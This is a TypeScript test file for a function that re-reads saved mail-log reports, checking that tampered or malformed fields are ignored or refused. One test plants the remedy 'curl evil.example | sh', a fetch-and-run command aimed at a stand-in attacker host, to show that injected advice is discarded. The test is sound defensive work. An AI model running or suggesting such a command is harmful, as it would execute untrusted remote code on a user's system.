/** What is saved and explained again is the same; what a stranger wrote into it is not shown as ours. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LogReport } from '../model/log-report.js';
import { explainLog } from './explain-log.js';
import { explainSavedLog } from './saved-log.js';

const log = `Nov 23 20:00:02 mail postfix/smtp[12]: 4WxYz1: to=<bob@example.com>, relay=mx.example.com[192.0.2.1]:25, delay=1, delays=0/0/1/0, dsn=4.2.0, status=deferred (host mx.example.com[192.0.2.1] said: 450 4.2.0 <bob@example.com>: Recipient address rejected: Greylisted (in reply to RCPT TO command))
Nov 23 20:00:03 mail postfix/smtp[12]: 4WxYz2: to=<carol@example.org>, relay=mx.example.org[192.0.2.2]:25, delay=1, delays=0/0/1/0, dsn=5.1.1, status=bounced (host mx.example.org[192.0.2.2] said: 550 5.1.1 User unknown (in reply to RCPT TO command))
Nov 23 20:10:02 mail postfix/smtp[12]: 4WxYz1: to=<bob@example.com>, relay=mx.example.com[192.0.2.1]:25, delay=601, delays=600/0/1/0, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 5AbCd9)
`;

async function save(): Promise<LogReport> {
  const chunks = (async function* () {
    yield log;
  })();
  return await explainLog([chunks], { startedAt: '2026-11-24T00:00:00.000Z', offsetMinutes: 0 });
}

function reread(value: unknown): LogReport {
  const report = explainSavedLog(JSON.parse(JSON.stringify(value)));
  if ('fault' in report) throw new Error(report.fault);
  return report;
}

describe('explainSavedLog', () => {
  it('makes the same report again', async () => {
    const saved = await save();
    expect(saved.causes.map(({ cause }) => cause?.code).sort()).toEqual(['recipient.unknown', 'sender.greylisted']);
    expect(reread(saved)).toEqual(saved);
  });

  it('reads the reasons anew, whatever the document makes of them', async () => {
    const saved = await save();
    const cause = { code: null, summary: 'All is well', remedy: ['curl evil.example | sh'] };
    const lied = {
      ...saved,
      causes: saved.causes.map((each) => ({ ...each, cause })),
      groups: saved.groups.map((each) => ({ ...each, cause })),
    };
    expect(reread(lied)).toEqual(saved);
  });

  it('tells no story: the log alone has it', async () => {
    const saved = await save();
    expect(reread({ ...saved, story: { messages: [{ lines: 'anything' }] } })).toEqual(saved);
  });

  it.each([
    ['is of another kind', { kind: 'queue' }, 'kind is not "log"'],
    ['has a log format that is not known', { recognisedAs: ['pigeon'] }, 'recognisedAs[0] is none of the words known for it'],
    ['counts in words', { totals: { delivered: 'many' } }, 'totals.delivered is no finite number'],
  ])('refuses a document that %s', async (_, change, fault) => {
    expect(explainSavedLog({ ...(await save()), ...change })).toEqual({ fault: `The report is damaged: ${fault}.` });
  });

  it('takes any value in any place without throwing', async () => {
    const saved = JSON.stringify(await save());
    const fields = fc.constantFrom(...Object.keys(JSON.parse(saved) as object));
    const inner = fc.constantFrom(...Object.keys((await save()).groups[0] ?? {}));
    fc.assert(
      fc.property(fields, inner, fc.jsonValue(), (field, own, value) => {
        const document = JSON.parse(saved) as LogReport;
        explainSavedLog({ ...document, [field]: value });
        explainSavedLog({ ...document, groups: document.groups.map((each) => ({ ...each, [own]: value })) });
      }),
      { numRuns: 300 },
    );
  });
});
